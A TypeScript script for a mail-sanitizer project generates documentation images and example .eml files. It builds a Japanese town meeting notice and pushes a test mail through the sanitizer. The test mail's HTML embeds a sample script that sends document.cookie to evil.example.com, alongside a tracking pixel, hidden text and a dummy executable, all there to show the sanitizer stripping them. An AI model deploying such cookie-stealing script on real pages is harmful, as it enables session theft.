/**
 * Makes the pictures of docs/sanitize.md and its example mails, so they can be made again after a change to the
 * sanitizer: `npx tsx scripts/make-doc-images.ts`. Everything is real: LibreOffice writes the document, MuPDF and
 * pdf-lib rebuild it, MessageSanitizer (converter children, resident LibreOffice) sanitizes the mail, and the
 * picture of the mail shows exactly the text and attachments that mailparser reads from the sanitizer's output.
 *
 * Writes docs/img/sanitized-page.png, docs/img/sanitized-mail.png, docs/examples/original.eml and
 * docs/examples/sanitized.eml. Needs LibreOffice, poppler-utils and fonts-noto-cjk (the Debian packages).
 */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { simpleParser } from 'mailparser';
import sharp from 'sharp';
import { validateConfig } from '../src/config/load.ts';
import { createLogger } from '../src/log.ts';
import { encodeHeader } from '../src/mime/compose.ts';
import { MessageSanitizer } from '../src/sanitize/message-sanitizer.ts';
import { rebuildPdf } from '../src/sanitize/pdf-rebuild.ts';
import { buildMail, encodeText } from '../test/helpers/mail-builder.ts';
import { saveAs } from '../test/helpers/office-docs.ts';
import { buildZip, encryptedMember } from '../test/helpers/zip-writer.ts';

const run = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, '..');
const IMG_DIR = path.join(ROOT, 'docs', 'img');
const EXAMPLES_DIR = path.join(ROOT, 'docs', 'examples');
/** The resolution of both page renderings in the picture: small enough for two A4 pages side by side. */
const PREVIEW_DPI = 80;
/** The resolution the sanitizer renders at by default (tenants[].sanitize.dpi). */
const SANITIZE_DPI = 150;
/** How the caption names the way the rebuilt page is stored (page-encode.ts's PageKind). */
const KIND_LABEL: Record<string, string> = { bilevel: '1-bit', palette: 'few-colour palette', jpeg: 'JPEG' };
const FONT = "'Noto Sans CJK JP', sans-serif";
const MONO = "'Noto Sans Mono CJK JP', monospace";

/** The quarantine id shown in the example notice (in the pipeline it is the message's spool id). */
const EXAMPLE_MID = '01JEXAMPLE7Q2N4V8K3M5R6T9W';

const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const kb = (n: number) => `${(n / 1024).toFixed(1)} KB`;

// ---------------------------------------------------------------------------------------------------------------
// The document: a municipal notice with a heading, paragraphs, a table and a link, as flat ODF.

const NS = [
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"',
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"',
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
].join(' ');

const TABLE_ROWS: [string, string][] = [
  ['日時', '令和8年12月10日（木）午後2時から午後4時まで'],
  ['会場', '本庁舎3階 第二会議室'],
  ['議題', '(1) 地域防災計画の見直しについて\n(2) 避難所運営マニュアルの改訂について'],
  ['持ち物', '配布済みの資料、筆記用具'],
];

function noticeFodt(): string {
  const font = 'style:font-name="Noto Sans CJK JP" style:font-name-asian="Noto Sans CJK JP"';
  const styles = `
<office:font-face-decls><style:font-face style:name="Noto Sans CJK JP" svg:font-family="'Noto Sans CJK JP'" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"/></office:font-face-decls>
<office:styles>
  <style:default-style style:family="paragraph"><style:text-properties ${font} fo:font-size="10.5pt" style:font-size-asian="10.5pt"/></style:default-style>
</office:styles>
<office:automatic-styles>
  <style:page-layout style:name="A4"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" fo:margin-top="2.2cm" fo:margin-bottom="2cm" fo:margin-left="2.4cm" fo:margin-right="2.4cm"/></style:page-layout>
  <style:style style:name="Right" style:family="paragraph"><style:paragraph-properties fo:text-align="end"/></style:style>
  <style:style style:name="Title" style:family="paragraph"><style:paragraph-properties fo:text-align="center" fo:margin-top="0.6cm" fo:margin-bottom="0.6cm"/><style:text-properties fo:font-size="18pt" style:font-size-asian="18pt" fo:font-weight="bold" style:font-weight-asian="bold"/></style:style>
  <style:style style:name="Body" style:family="paragraph"><style:paragraph-properties fo:text-indent="0.37cm" fo:margin-bottom="0.2cm" fo:line-height="150%"/></style:style>
  <style:style style:name="Center" style:family="paragraph"><style:paragraph-properties fo:text-align="center" fo:margin-top="0.3cm" fo:margin-bottom="0.3cm"/></style:style>
  <style:style style:name="Cell" style:family="paragraph"><style:paragraph-properties fo:margin-top="0.05cm" fo:margin-bottom="0.05cm"/></style:style>
  <style:style style:name="Head" style:family="paragraph"><style:paragraph-properties fo:text-align="center"/><style:text-properties fo:font-weight="bold" style:font-weight-asian="bold"/></style:style>
  <style:style style:name="T" style:family="table"><style:table-properties style:width="16.2cm" table:align="center"/></style:style>
  <style:style style:name="T.A" style:family="table-column"><style:table-column-properties style:column-width="3cm"/></style:style>
  <style:style style:name="T.B" style:family="table-column"><style:table-column-properties style:column-width="13.2cm"/></style:style>
  <style:style style:name="T.H" style:family="table-cell"><style:table-cell-properties fo:background-color="#e8eef7" fo:padding="0.15cm" fo:border="0.5pt solid #000000"/></style:style>
  <style:style style:name="T.C" style:family="table-cell"><style:table-cell-properties fo:padding="0.15cm" fo:border="0.5pt solid #000000"/></style:style>
  <style:style style:name="Link" style:family="text"><style:text-properties fo:color="#1a56b0" style:text-underline-style="solid" style:text-underline-width="auto" style:text-underline-color="font-color"/></style:style>
</office:automatic-styles>
<office:master-styles><style:master-page style:name="Standard" style:page-layout-name="A4"/></office:master-styles>`;
  const p = (style: string, text: string) => `<text:p text:style-name="${style}">${text}</text:p>`;
  const rows = TABLE_ROWS.map(
    ([k, v]) =>
      `<table:table-row><table:table-cell table:style-name="T.H" office:value-type="string">${p('Head', k)}</table:table-cell>` +
      `<table:table-cell table:style-name="T.C" office:value-type="string">${v.split('\n').map((l) => p('Cell', l)).join('')}</table:table-cell></table:table-row>`,
  ).join('');
  const link = '<text:a xlink:type="simple" xlink:href="https://www.town-b.example.lg.jp/bousai/kaigi.html" text:style-name="Link">https://www.town-b.example.lg.jp/bousai/kaigi.html</text:a>';
  const body = [
    p('Right', '乙町総第 1203 号'),
    p('Right', '令和8年12月1日'),
    p('Standard', '防災会議委員 各位'),
    p('Right', '乙町長　山田 太郎'),
    p('Title', '会議開催のお知らせ'),
    p('Body', '師走の候、皆様におかれましてはますますご清祥のこととお慶び申し上げます。平素より町政の推進にご理解とご協力を賜り、厚く御礼申し上げます。'),
    p('Body', 'さて、標記の会議を下記のとおり開催いたします。ご多忙のところ誠に恐縮ですが、ご出席くださいますようお願い申し上げます。'),
    p('Center', '記'),
    `<table:table table:name="T" table:style-name="T"><table:table-column table:style-name="T.A"/><table:table-column table:style-name="T.B"/>${rows}</table:table>`,
    p('Body', ''),
    p('Body', '出欠は12月7日（月）までに、次のページからご回答ください。'),
    p('Center', link),
    p('Body', '会議資料は当日配布いたします。ご不明な点は総務課防災係（電話 0123-45-6789）までお問い合わせください。'),
    p('Right', '以上'),
  ].join('');
  return `<?xml version="1.0" encoding="UTF-8"?>\n<office:document ${NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">${styles}<office:body><office:text>${body}</office:text></office:body></office:document>\n`;
}

// ---------------------------------------------------------------------------------------------------------------
// Picture 1: page 1 of the original PDF beside page 1 of the rebuilt one.

async function pageOne(pdf: string, dir: string, name: string): Promise<Buffer> {
  const prefix = path.join(dir, name);
  await run('pdftoppm', ['-r', String(PREVIEW_DPI), '-png', '-f', '1', '-l', '1', '-singlefile', pdf, prefix]);
  return readFileSync(`${prefix}.png`);
}

/** The number of font rows `pdffonts` lists (its two header lines skipped). */
async function fontCount(pdf: string): Promise<number> {
  const { stdout } = await run('pdffonts', [pdf]);
  return stdout.trim().split('\n').slice(2).filter(Boolean).length;
}

async function pdfText(pdf: string): Promise<string> {
  const { stdout } = await run('pdftotext', ['-l', '1', pdf, '-']);
  return stdout.trim();
}

function svgText(width: number, height: number, lines: { text: string; x: number; y: number; size: number; weight?: string; fill?: string; anchor?: string; family?: string }[], background = 'none'): Buffer {
  const body = lines
    .map(
      (l) =>
        `<text x="${l.x}" y="${l.y}" font-family="${l.family ?? FONT}" font-size="${l.size}" font-weight="${l.weight ?? 'normal'}" fill="${l.fill ?? '#222'}" text-anchor="${l.anchor ?? 'start'}">${escapeXml(l.text)}</text>`,
    )
    .join('');
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="${background}"/>${body}</svg>`);
}

async function makePagePicture(work: string): Promise<{ docx: Buffer }> {
  const fodt = path.join(work, 'notice.fodt');
  const docxPath = path.join(work, '会議開催のお知らせ.docx');
  const original = path.join(work, 'original.pdf');
  writeFileSync(fodt, noticeFodt());
  await saveAs(work, [
    [fodt, original, 'writer_pdf_Export', ''],
    [fodt, docxPath, 'MS Word 2007 XML', ''],
  ]);
  const originalPdf = readFileSync(original);
  const rebuilt = await rebuildPdf(originalPdf, { dpi: SANITIZE_DPI, as: 'pdf' });
  if (!rebuilt.pdf) throw new Error('rebuildPdf returned no PDF');
  const sanitized = path.join(work, 'sanitized.pdf');
  writeFileSync(sanitized, rebuilt.pdf);

  const [left, right] = await Promise.all([pageOne(original, work, 'left'), pageOne(sanitized, work, 'right')]);
  const [fontsBefore, fontsAfter, textBefore, textAfter] = await Promise.all([fontCount(original), fontCount(sanitized), pdfText(original), pdfText(sanitized)]);
  const linkBefore = originalPdf.includes('/URI');
  const linkAfter = rebuilt.pdf.includes('/URI');
  const meta = await sharp(left).metadata();
  const pw = meta.width;
  const ph = meta.height;
  const gap = 28;
  const margin = 20;
  const captionH = 44;
  const footH = 80;
  const width = margin * 2 + pw * 2 + gap;
  const height = margin + captionH + ph + footH;
  const border = (img: Buffer) => sharp(img).extend({ top: 1, bottom: 1, left: 1, right: 1, background: '#9aa3ad' }).png().toBuffer();
  const captions = svgText(width, captionH, [
    { text: `original (${textBefore ? 'text' : 'no text'}, ${fontsBefore} fonts, ${linkBefore ? 'link' : 'no link'})`, x: margin + pw / 2, y: 30, size: 18, weight: 'bold', anchor: 'middle' },
    { text: `sanitized (${KIND_LABEL[rebuilt.pageKinds[0] ?? 'jpeg']} image, ${textAfter ? 'text' : 'no text'}, ${linkAfter ? 'link' : 'no link'})`, x: margin + pw + gap + pw / 2, y: 30, size: 18, weight: 'bold', anchor: 'middle', fill: '#0b5d1e' },
  ]);
  const describe = (label: string, bytes: number, fonts: number, text: string, link: boolean) =>
    `${label}: ${kb(bytes)}, pdffonts: ${fonts} font${fonts === 1 ? '' : 's'}, pdftotext: ${text.length} chars, link annotation: ${link ? 'yes' : 'no'}`;
  const foot = svgText(
    width,
    footH,
    [
      { text: describe('original', originalPdf.length, fontsBefore, textBefore, linkBefore), x: margin, y: 24, size: 14, family: MONO },
      { text: describe('sanitized', rebuilt.pdf.length, fontsAfter, textAfter, linkAfter), x: margin, y: 46, size: 14, family: MONO },
      { text: `page kinds: ${rebuilt.pageKinds.join(', ')} at ${SANITIZE_DPI} dpi (shown here at ${PREVIEW_DPI} dpi) · fonts ${fontsBefore} → ${fontsAfter}`, x: margin, y: 66, size: 13, fill: '#555' },
    ],
    '#f3f4f6',
  );
  const out = await sharp({ create: { width, height, channels: 3, background: '#ffffff' } })
    .composite([
      { input: captions, top: margin - 10, left: 0 },
      { input: await border(left), top: margin + captionH - 10, left: margin - 1 },
      { input: await border(right), top: margin + captionH - 10, left: margin + pw + gap - 1 },
      { input: foot, top: height - footH, left: 0 },
    ])
    .png({ compressionLevel: 9, palette: true })
    .toBuffer();
  writeFileSync(path.join(IMG_DIR, 'sanitized-page.png'), out);
  console.log(describe('original', originalPdf.length, fontsBefore, textBefore, linkBefore));
  console.log(describe('sanitized', rebuilt.pdf.length, fontsAfter, textAfter, linkAfter), rebuilt.pageKinds);
  return { docx: readFileSync(docxPath) };
}

// ---------------------------------------------------------------------------------------------------------------
// Picture 2: a mail through the real MessageSanitizer, drawn like a mail client shows it.

const HTML = [
  '<html><head><style>.hide{display:none}</style><script>location.href="https://evil.example.com/steal?c="+document.cookie</script></head><body>',
  '<p>防災会議委員 各位</p>',
  '<p>いつもお世話になっております。乙町総務課の佐藤です。</p>',
  '<p>12月10日に開催する防災会議のご案内をお送りします。詳細は添付の文書をご覧ください。</p>',
  '<p>出欠は<a href="https://www.town-b.example.lg.jp/bousai/kaigi.html">こちらのページ</a>からご回答ください。</p>',
  '<p>資料（PDF化したもの）は別途パスワード付きZIPでお送りし、パスワードは追ってご連絡します。</p>',
  '<div style="display:none">このテキストは表示されません（隠しテキスト）</div>',
  '<img src="https://tracker.example.net/open.gif" width="1" height="1">',
  '<p>--<br>乙町 総務課 防災係 佐藤 花子<br>電話 0123-45-6789</p>',
  '</body></html>',
].join('\n');

async function photo(): Promise<Buffer> {
  const w = 640;
  const h = 480;
  const sky = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}"><defs><linearGradient id="g" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#7fb2e5"/><stop offset="0.6" stop-color="#dbe9f5"/><stop offset="0.6" stop-color="#6f8f4e"/><stop offset="1" stop-color="#3e5a2a"/></linearGradient></defs><rect width="${w}" height="${h}" fill="url(#g)"/><rect x="220" y="150" width="200" height="140" fill="#c9c2b5"/><polygon points="200,150 320,90 440,150" fill="#8a4b3a"/></svg>`,
  );
  return sharp(sky)
    .jpeg({ quality: 85 })
    .withExif({ IFD0: { Make: 'SekishoCam', Model: 'Field 1' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '139/1 45/1 0/1' } })
    .toBuffer();
}

function iso2022Subject(s: string): string {
  return `=?ISO-2022-JP?B?${encodeText(s, 'iso-2022-jp').toString('base64')}?=`;
}

async function sanitizeExample(work: string, docx: Buffer): Promise<{ original: Buffer; sanitized: Buffer }> {
  const original = buildMail({
    from: `${iso2022Subject('乙町 総務課 佐藤')} <sato@town-b-soumu.example.jp>`,
    to: 'bousai-iin@town-b.example.lg.jp',
    subject: iso2022Subject('【ご案内】防災会議の開催について'),
    messageId: '<20261201093000.4711@town-b-soumu.example.jp>',
    html: { body: HTML, charset: 'iso-2022-jp' },
    attachments: [
      { filename: '会議開催のお知らせ.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', data: docx, nameCharset: 'iso-2022-jp' },
      { filename: '現地写真.jpg', contentType: 'image/jpeg', data: await photo(), nameCharset: 'iso-2022-jp' },
      { filename: '会議資料.zip', contentType: 'application/zip', data: buildZip([encryptedMember('会議資料.pdf', 48_000)]), nameCharset: 'iso-2022-jp' },
      // Not a real program: an MZ header and zeros, enough for the true-type check to call it an executable.
      { filename: '出欠登録ツール.exe', contentType: 'application/octet-stream', data: Buffer.from(`MZ\x90\x00${'\x00'.repeat(4000)}`, 'latin1'), nameCharset: 'iso-2022-jp' },
    ],
  });
  const r = validateConfig({
    hostname: 'mx.pref.example.lg.jp',
    dataDir: work,
    sanitize: { converterProcesses: 1 },
    tenants: [{ id: 'town-b', name: '乙町', domains: ['town-b.example.lg.jp'], deliverTo: 'smtp://127.0.0.1:2525', sanitize: true }],
  });
  if (!r.ok) throw new Error(`bad config: ${JSON.stringify(r.issues)}`);
  const log = createLogger('warn');
  const sanitizer = new MessageSanitizer(r.config, log);
  try {
    const result = await sanitizer.sanitize({
      mid: EXAMPLE_MID,
      raw: original,
      tenant: r.config.tenants[0]!,
      recipients: ['bousai-iin@town-b.example.lg.jp'],
      verdict: { symbols: [], unlistedSymbols: [], failedChecks: [], durationsMs: {}, decisions: {}, scannedAt: Date.now() },
      signal: new AbortController().signal,
      log,
    });
    // As the sanitize stage stores it: X-Sekisho-Sanitized in front of the rebuilt message.
    const sanitized = Buffer.concat([Buffer.from(encodeHeader({ name: 'X-Sekisho-Sanitized', value: result.header }), 'utf8'), result.message]);
    console.log(result.summary.join('\n'));
    return { original, sanitized };
  } finally {
    await sanitizer.close();
  }
}

/** Splits a line into pieces of at most `cols` columns (a CJK character counts two). */
function wrap(line: string, cols: number): string[] {
  const out: string[] = [];
  let cur = '';
  let w = 0;
  for (const ch of line) {
    const cw = /[\u1100-\u115f\u2e80-\ua4cf\uac00-\ud7a3\uf900-\ufaff\ufe30-\ufe4f\uff00-\uff60\uffe0-\uffe6]/u.test(ch) ? 2 : 1;
    if (w + cw > cols) {
      out.push(cur);
      cur = '';
      w = 0;
    }
    cur += ch;
    w += cw;
  }
  out.push(cur);
  return out;
}

async function makeMailPicture(eml: Buffer): Promise<void> {
  const mail = await simpleParser(eml);
  const width = 1000;
  const pad = 24;
  const lineH = 21;
  const textCols = 110;
  const header = eml.toString('latin1').split('\r\n\r\n')[0]!.replace(/\r\n[ \t]+/g, ' ');
  const sanitizedLine = header.match(/^X-Sekisho-Sanitized: (.*)$/m)?.[1] ?? '';
  const from = mail.from?.text ?? '';
  const to = Array.isArray(mail.to) ? mail.to.map((a) => a.text).join(', ') : (mail.to?.text ?? '');
  const date = mail.date ? mail.date.toISOString().replace('T', ' ').replace(/\.\d+Z$/, ' UTC') : '';
  const bodyLines = (mail.text ?? '').replace(/\n+$/, '').split('\n').flatMap((l) => wrap(l, textCols));

  const parts: string[] = [];
  let y = pad;
  parts.push(`<rect x="0" y="0" width="${width}" height="100%" fill="#ffffff"/>`);
  // Title bar.
  parts.push(`<rect x="0" y="0" width="${width}" height="44" fill="#2f3b4c"/>`);
  parts.push(`<text x="${pad}" y="28" font-family="${FONT}" font-size="17" font-weight="bold" fill="#ffffff">${escapeXml(mail.subject ?? '')}</text>`);
  y = 44 + 26;
  const field = (k: string, v: string, family = FONT, size = 14) => {
    parts.push(`<text x="${pad}" y="${y}" font-family="${FONT}" font-size="14" fill="#6b7280">${k}</text>`);
    parts.push(`<text x="${pad + 150}" y="${y}" font-family="${family}" font-size="${size}" fill="#111827">${escapeXml(v)}</text>`);
    y += 22;
  };
  field('From', from);
  field('To', to);
  field('Date', date);
  for (const [i, piece] of wrap(sanitizedLine, 108).entries()) field(i === 0 ? 'X-Sekisho-Sanitized' : '', piece, MONO, 12);
  y += 6;
  // Attachments.
  parts.push(`<line x1="0" y1="${y}" x2="${width}" y2="${y}" stroke="#d1d5db"/>`);
  y += 24;
  parts.push(`<text x="${pad}" y="${y}" font-family="${FONT}" font-size="14" fill="#6b7280">添付ファイル ${mail.attachments.length} 件</text>`);
  y += 12;
  let x = pad;
  for (const a of mail.attachments) {
    const label = `${a.filename ?? '(no name)'}  ${kb(a.size)}`;
    const w = wrap(label, 200)[0]!.length * 9 + [...label].filter((c) => c.charCodeAt(0) > 0x2e80).length * 7 + 40;
    if (x + w > width - pad) {
      x = pad;
      y += 40;
    }
    parts.push(`<rect x="${x}" y="${y}" width="${w}" height="30" rx="6" fill="#eef2f7" stroke="#c7d0dc"/>`);
    parts.push(`<text x="${x + 12}" y="${y + 20}" font-family="${FONT}" font-size="14" fill="#1f2937">${escapeXml(label)}</text>`);
    x += w + 10;
  }
  y += 30 + 16;
  parts.push(`<line x1="0" y1="${y}" x2="${width}" y2="${y}" stroke="#d1d5db"/>`);
  y += 26;
  // The body exactly as mailparser reads it from the sanitized message.
  for (const l of bodyLines) {
    parts.push(`<text x="${pad}" y="${y}" font-family="${MONO}" font-size="14" fill="#111827" xml:space="preserve">${escapeXml(l)}</text>`);
    y += lineH;
  }
  const height = y + pad;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">${parts.join('')}</svg>`;
  const png = await sharp(Buffer.from(svg)).extend({ top: 1, bottom: 1, left: 1, right: 1, background: '#9aa3ad' }).png({ compressionLevel: 9, palette: true }).toBuffer();
  writeFileSync(path.join(IMG_DIR, 'sanitized-mail.png'), png);
}

mkdirSync(IMG_DIR, { recursive: true });
mkdirSync(EXAMPLES_DIR, { recursive: true });
const work = mkdtempSync(path.join(tmpdir(), 'sekisho-doc-images-'));
try {
  const { docx } = await makePagePicture(work);
  const { original, sanitized } = await sanitizeExample(work, docx);
  writeFileSync(path.join(EXAMPLES_DIR, 'original.eml'), original);
  writeFileSync(path.join(EXAMPLES_DIR, 'sanitized.eml'), sanitized);
  await makeMailPicture(sanitized);
  console.log('written: docs/img/sanitized-page.png, docs/img/sanitized-mail.png, docs/examples/{original,sanitized}.eml');
} finally {
  rmSync(work, { recursive: true, force: true });
}
